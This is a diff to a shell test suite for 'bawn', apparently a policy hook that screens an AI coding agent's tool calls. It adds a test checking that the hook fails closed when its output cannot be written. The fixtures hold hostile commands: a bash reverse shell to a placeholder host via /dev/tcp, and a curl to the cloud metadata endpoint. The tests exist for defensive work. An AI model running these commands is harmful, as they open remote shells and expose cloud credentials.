@@ -209,6 +209,18 @@ reverse_shell='{"command":"bash -i >& /dev/tcp/192.0.2.1/99 0>&1"}'
 	done
 }
 
+@test "acting: an answer that cannot be written does not let the call through" {
+	acting
+	event Bash '{"command":"curl http://169.254.169.254/latest/"}' >event
+	run --separate-stderr -0 bawn hook claude-code <event
+	[ -n "$output" ]
+	for to in '>/dev/full' '>&-'; do
+		run --separate-stderr -2 sh -c "\"\$0\" hook claude-code <event $to" "$BAWN"
+		[[ $stderr == "bawn: writing to standard output: "* ]]
+		[ "${#stderr_lines[@]}" -eq 1 ]
+	done
+}
+
 @test "a policy that cannot be read, or a log that cannot be written, blocks" {
 	mkdir -p "$XDG_CONFIG_HOME/bawn"
 	echo 'enforcment: {}' >"$XDG_CONFIG_HOME/bawn/policy.yaml"
